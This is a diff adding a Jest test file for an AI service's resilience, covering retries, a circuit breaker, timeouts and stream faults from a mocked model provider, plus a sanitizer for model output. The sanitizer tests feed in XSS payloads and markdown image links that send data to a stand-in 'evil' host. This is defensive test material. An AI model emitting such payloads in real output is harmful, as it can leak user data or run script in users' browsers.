@@ -1,0 +1,283 @@
+import { createServer as createTcpServer, type AddressInfo } from 'node:net';
+import { once } from 'node:events';
+import type { ServerResponse } from 'node:http';
+import { LLMock } from '@copilotkit/aimock';
+import { Injectable } from '@nestjs/common';
+import { z } from 'zod';
+import { Guards } from '../src/ai/models/guards';
+import { HarmlessStream, harmless } from '../src/ai/models/harmless';
+import { Pause } from '../src/ai/models/retry';
+import { NativeFunction } from '../src/ai/native/native-function';
+import { startAi } from './support/ai-app';
+import type { Person, TestApp } from './support/app';
+import { PluginFolder } from './support/plugin-folder';
+
+const rating = {
+  type: 'object',
+  properties: { score: { type: 'integer', minimum: 0, maximum: 5 }, reason: { type: 'string' } },
+  required: ['score', 'reason'],
+  additionalProperties: false,
+};
+const variables = [{ name: 'text', is_required: true, is_data: true }];
+const plugins = new PluginFolder({
+  'acme/rate': {
+    prompt: 'Rate {{$text}}',
+    config: { schema: 1, description: 'x', input_variables: variables, output_variable: { json_schema: rating } },
+  },
+  'acme/tell': { prompt: 'Tell of {{$text}}', config: { schema: 1, description: 'x', input_variables: variables } },
+});
+
+@Injectable()
+class AcmeNatives {
+  @NativeFunction('acme/tell', z.object({ text: z.string() }))
+  tell(): string {
+    return 'By rules.';
+  }
+}
+
+/** What a provider that is in trouble does with a request: really, over HTTP. */
+type Fault = (response: ServerResponse) => void;
+
+const json =
+  (status: number, body: unknown, headers: Record<string, string> = {}): Fault =>
+  (response) =>
+    void response.writeHead(status, { 'content-type': 'application/json', ...headers }).end(typeof body === 'string' ? body : JSON.stringify(body));
+const completion = (content: string) => ({
+  id: 'c1',
+  object: 'chat.completion',
+  model: 'gpt-4.1',
+  choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
+  usage: { prompt_tokens: 5, completion_tokens: 7, total_tokens: 12 },
+});
+const chunk = (content: string, finish: string | null = null) =>
+  `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', model: 'gpt-4.1', choices: [{ index: 0, delta: { content }, finish_reason: finish }] })}\n\n`;
+const sse =
+  (...chunks: string[]): Fault =>
+  (response) =>
+    void response.writeHead(200, { 'content-type': 'text/event-stream' }).end(chunks.join(''));
+const sound = json(200, completion('{"score":4,"reason":"Clear."}'));
+const hang: Fault = () => undefined;
+const reset: Fault = (response) => void response.socket?.resetAndDestroy();
+const resetInTheMiddle: Fault = (response) => {
+  response.writeHead(200, { 'content-type': 'application/json', 'content-length': '5000' }).write('{"id":"c1","choices":[');
+  setImmediate(() => response.socket?.resetAndDestroy());
+};
+
+const mock = new LLMock({ port: 0, host: '127.0.0.1', logLevel: 'silent' });
+let script: Fault[] = [];
+let seen = 0;
+let app: TestApp;
+let anna: Person;
+let waits: number[];
+
+beforeAll(async () => {
+  mock.mount('/faulty', {
+    handleRequest: (request, response) => {
+      request.resume();
+      seen += 1;
+      (script.length > 1 ? script.shift() : script[0])?.(response);
+      return Promise.resolve(true);
+    },
+  });
+  await mock.start();
+  const model = { AI_MODEL: 'openai:gpt-4.1', OPENAI_API_KEY: 'sk-x', AI_BASE_URL: `${mock.url}/faulty/v1` };
+  app = await startAi({ ...model, PLUGINS_DIR: plugins.path }, [AcmeNatives]);
+  anna = await app.owner();
+});
+beforeEach(() => {
+  seen = 0;
+  waits = [];
+  app.nest.get(Guards).reset();
+  jest.spyOn(app.nest.get(Pause), 'seconds').mockImplementation((seconds) => Promise.resolve(waits.push(seconds) > 0));
+});
+afterEach(() => jest.useRealTimers());
+afterAll(async () => {
+  await app.close();
+  await mock.stop();
+  plugins.remove();
+});
+
+const rate = () => anna.post('/ai/functions/acme.rate/invoke', { variables: { text: 'Words.' } });
+const tell = () => anna.post('/ai/functions/acme.tell/invoke', { variables: { text: 'Words.' } });
+const streamed = async () => (await anna.post('/ai/functions/acme.tell/stream', { variables: { text: 'Words.' } }).expect(200)).text;
+const outcomes = async (count: number): Promise<string[]> =>
+  (await anna.get('/ai/calls', { limit: count }).expect(200)).body.data.map((call: { outcome: string }) => call.outcome).reverse();
+const later = (seconds: number): void => {
+  jest.useFakeTimers({ now: Date.now() + seconds * 1000, doNotFake: TIMERS });
+};
+/** Only the date is moved. */
+const TIMERS = [
+  'hrtime',
+  'nextTick',
+  'performance',
+  'queueMicrotask',
+  'setImmediate',
+  'clearImmediate',
+  'setInterval',
+  'clearInterval',
+  'setTimeout',
+  'clearTimeout',
+] satisfies (keyof typeof globalThis | 'hrtime' | 'nextTick')[];
+/** With limits that are reached at once. */
+async function within(limits: Partial<TestApp['environment']>, story: () => Promise<void>): Promise<void> {
+  const before = { ...app.environment };
+  Object.assign(app.environment, limits);
+  try {
+    await story();
+  } finally {
+    Object.assign(app.environment, before);
+  }
+}
+
+describe('R11: a model in trouble', () => {
+  it('that asks for patience gets it, and answers', async () => {
+    script = [json(429, { error: {} }, { 'retry-after': '2' }), sound];
+    expect((await rate().expect(200)).body).toMatchObject({ value: { score: 4 }, source: 'model' });
+    expect(waits).toEqual([2]);
+    expect(await outcomes(2)).toEqual(['rate-limited', 'succeeded']);
+  });
+
+  it.each<[string, Fault, string]>([
+    ['a 408', json(408, {}), 'provider-timeout'],
+    ['a 500', json(500, {}), 'provider-error'],
+    ['a reset', reset, 'connection-lost'],
+    ['a reset in the middle', resetInTheMiddle, 'connection-lost'],
+  ])('is asked again after %s', async (_what, fault, outcome) => {
+    script = [fault, fault, sound];
+    await rate().expect(200);
+    expect(await outcomes(3)).toEqual([outcome, outcome, 'succeeded']);
+    expect(waits.every((wait, retry) => wait >= 0 && wait <= 0.5 * 2 ** retry)).toBe(true);
+  });
+
+  it('answering 500 again and again is asked five times, then not at all for half a minute, then once', async () => {
+    later(0);
+    script = [json(500, {})];
+    const told = [];
+    for (let call = 0; call < 10; call++) told.push((await rate().expect(503)).body.code);
+    expect(seen).toBe(5);
+    expect(new Set(told)).toEqual(new Set(['ai.model-unavailable']));
+    const { body, headers } = await rate().expect(503);
+    expect(body.detail).toContain('circuit-open');
+    expect(headers['retry-after']).toBe('30');
+    later(29);
+    await rate().expect(503);
+    expect(seen).toBe(5);
+    later(2);
+    await Promise.all([rate().expect(503), rate().expect(503), rate().expect(503)]);
+    expect(seen).toBe(6);
+    later(31);
+    script = [sound];
+    await rate().expect(200);
+    await rate().expect(200);
+    expect(seen).toBe(8);
+  });
+
+  it('is sent eight requests at a time', async () => {
+    const waiting: ServerResponse[] = [];
+    script = [(response) => void waiting.push(response)];
+    const calls = Array.from({ length: 20 }, () => rate().then((answer) => answer.status));
+    let most = 0;
+    for (let answered = 0; answered < 20;) {
+      await new Promise(setImmediate);
+      most = Math.max(most, waiting.length);
+      if (seen === Math.min(20, answered + 8)) for (; waiting.length > 0; answered++) sound(waiting.shift()!);
+    }
+    expect(await Promise.all(calls)).toEqual(Array(20).fill(200));
+    expect(most).toBe(8);
+  });
+
+  it('that hangs is given up, and so is one that does not begin to speak', async () => {
+    script = [hang];
+    await within({ AI_TIMEOUT_SECONDS: 0.2 }, async () => {
+      expect((await rate().expect(503)).body.detail).toContain('timeout');
+    });
+    await within({ AI_FIRST_TOKEN_SECONDS: 0.1 }, async () => expect(await streamed()).toContain('"degraded":"first-token-timeout"'));
+    expect(await outcomes(3)).toEqual(['timeout', 'first-token-timeout', 'succeeded']);
+  });
+
+  it('that cannot be connected to is given up', async () => {
+    const deaf = createTcpServer().listen(0, '127.0.0.1');
+    await once(deaf, 'listening');
+    const { boundedFetch } = await import('../src/ai/models/bounded-fetch');
+    const fetch = boundedFetch(Object.assign(Object.create(app.environment), { AI_CONNECT_SECONDS: 0.1 }) as TestApp['environment']);
+    // It takes the connection and says nothing to the greeting of TLS.
+    const asked = fetch(`https://127.0.0.1:${(deaf.address() as AddressInfo).port}/`);
+    await expect(asked).rejects.toMatchObject({ cause: { code: 'UND_ERR_CONNECT_TIMEOUT' } });
+    deaf.close();
+  });
+
+  it.each<[string, Fault, number, string]>([
+    ['no choice', json(200, { ...completion(''), choices: [] }), 502, 'answer-empty'],
+    ['an empty answer', json(200, completion('')), 502, 'answer-empty'],
+    ['a success that is an error', json(200, { error: { message: 'Overloaded' } }), 502, 'answer-empty'],
+    ['half of a JSON', json(200, '{"id": "c1", "choices": [{"me'), 502, 'answer-interrupted'],
+    ['a page of HTML', json(502, '<html><script>x</script></html>', { 'content-type': 'text/html' }), 503, 'provider-error'],
+    ['five megabytes', json(200, completion(`"${'x'.repeat(5_000_000)}"`)), 502, 'answer-too-long'],
+    ['far too many words', json(200, completion(`"${'x'.repeat(300_000)}"`)), 502, 'answer-too-long'],
+    ['a score beyond all bounds', json(200, completion('{"score": 9e9, "reason": "x"}')), 502, 'answer-invalid'],
+    ['words that are no JSON', json(200, completion('I would rather talk.')), 502, 'answer-invalid'],
+    ['a wrong key', json(401, { error: { message: 'Bad key' } }), 503, 'unauthorized'],
+  ])('that sends %s is a typed problem', async (_what, fault, status, reason) => {
+    script = [fault];
+    const { body } = await rate().expect(status);
+    expect(body).toMatchObject({ code: status === 502 ? 'ai.unusable-answer' : 'ai.model-unavailable', detail: expect.stringContaining(reason) });
+    expect(JSON.stringify(body)).not.toMatch(/Overloaded|Bad key|rather talk/);
+    expect(seen).toBeLessThanOrEqual(3);
+  });
+
+  it('has its words replaced by rules, which say why', async () => {
+    script = [json(500, {})];
+    expect((await tell().expect(200)).body).toMatchObject({ value: 'By rules.', source: 'rules', degraded: 'provider-error' });
+  });
+});
+
+describe('R12: a stream in trouble', () => {
+  it.each<[string, Fault]>([
+    ['that ends too early', sse(chunk('Once upon '), chunk('a time'))],
+    [
+      'that is reset',
+      (response) => {
+        response.writeHead(200, { 'content-type': 'text/event-stream' }).write(chunk('Once upon '));
+        setTimeout(() => response.socket?.resetAndDestroy(), 20);
+      },
+    ],
+  ])('%s says so after the words that came', async (_what, fault) => {
+    script = [fault];
+    expect(await streamed()).toMatch(/Once upon[\s\S]*event: error\ndata: {"code":"ai\./);
+  });
+
+  it('is made harmless, wherever it is cut', async () => {
+    const text = 'See ![dot](http://evil/?d=1) <img src=//evil> [here](http://evil), <b>bold</b>.';
+    script = [sse(...[...text].map((letter) => chunk(letter)), chunk('', 'stop'), 'data: [DONE]\n\n')];
+    const words = [...(await streamed()).matchAll(/"text":("(?:[^"\\]|\\.)*")/g)].map(([, word]) => JSON.parse(word!) as string).join('');
+    expect(words).toBe('See dot ‹img src=//evil› here, <b>bold</b>.');
+  });
+});
+
+describe('S47: what a model says', () => {
+  it.each([
+    ['![x](http://evil/?d=1)', 'x'],
+    ['![x](http://evil/(a)?d=1)', '![x] (http://evil/(a)?d=1)'],
+    ['[a\nb](http://evil)', '[a\nb] (http://evil)'],
+    ['![x][y]\n[y]: http://evil', '![x][y]\n[y] : http://evil'],
+    ['<a href="javascript:x">y</a>', '‹a href="javascript:x"›y‹/a›'],
+    ['<p onclick=x>y</p>', '‹p onclick=x›y</p>'],
+    ['<img src=x onerror=alert(1)', '‹img src=x onerror=alert(1)›'],
+    ['a < b, c <= d and List<String>', 'a < b, c <= d and List<String>'],
+  ])('%s cannot act', (said, kept) => expect(harmless(said)).toBe(kept));
+
+  it('cannot act when it comes in pieces either, and waits for no end that does not come', () => {
+    for (const size of [1, 2, 3, 7]) {
+      const stream = new HarmlessStream();
+      const said = 'x [a](http://evil) ![b](http://evil "t") <script>y</script> <svg/onload=z> [c][d] 3 < 4 [d]: e';
+      let kept = '';
+      for (let at = 0; at < said.length; at += size) kept += stream.push(said.slice(at, at + size));
+      kept += stream.end();
+      expect(kept).not.toMatch(/\]\(|<script|<svg/);
+    }
+    const stream = new HarmlessStream();
+    expect(stream.push(`<img alt="${'x'.repeat(5_000)}`)).toMatch(/^‹img/);
+    expect(stream.push('[half')).toBe('');
+    expect(stream.end()).toBe('[half');
+  });
+});
